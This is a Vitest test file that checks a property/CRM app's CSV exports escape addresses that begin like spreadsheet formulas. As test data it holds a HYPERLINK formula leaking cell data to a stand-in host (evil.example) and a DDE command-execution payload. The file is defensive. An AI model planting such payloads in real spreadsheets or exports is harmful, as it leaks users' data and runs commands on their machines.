import { describe, expect, it } from "vitest";

import { action as createProperty } from "#app/routes/api.properties.ts";
import { loader as crmExport } from "#app/routes/crm.export[.csv].ts";
import { loader as dashboardExport } from "#app/routes/dashboard.export[.csv].ts";

import { registerClient } from "./api-client.ts";

// Addresses a hostile import or a shared lead list could carry: spreadsheets run each one as a formula.
const HYPERLINK = `=HYPERLINK("https://evil.example/?leak="&A1,"Open")`;
const NUMERIC_LOOKING = "-1+1+cmd|' /C calc'!A0";

async function accountWithHostileLeads() {
  const { client } = await registerClient("csv");
  for (const address of [HYPERLINK, NUMERIC_LOOKING]) {
    const created = await client.call(createProperty, "POST", "/api/properties", {
      address,
      city: "Phoenix",
      state: "AZ",
      zipCode: "85018",
    });
    expect(created.status).toBe(201);
  }
  return client;
}

describe("CSV exports are formula-safe", () => {
  it("the dashboard export neutralises addresses that start like a formula", async () => {
    const client = await accountWithHostileLeads();
    const answer = await client.call(dashboardExport, "GET", "/dashboard/export.csv?period=last-30-days");
    expect(answer.status).toBe(200);
    const csv = String(answer.body.text);
    const activity = csv.split("\r\n").filter((line) => line.startsWith("Recent Activity,New lead added,"));
    expect(activity).toHaveLength(2);
    // Each hostile address is one quoted or bare text cell that starts with the apostrophe, never with = + - @.
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")"`);
    expect(csv).toContain(`'${NUMERIC_LOOKING}`);
    for (const line of activity) expect(line.split(",")[2]).toMatch(/^"?'/);
  });

  it("the CRM export does the same through the same writer", async () => {
    const client = await accountWithHostileLeads();
    const answer = await client.call(crmExport, "GET", "/crm/export.csv");
    const csv = String(answer.body.text);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")"`);
    expect(csv).toContain(`'${NUMERIC_LOOKING}`);
  });
});
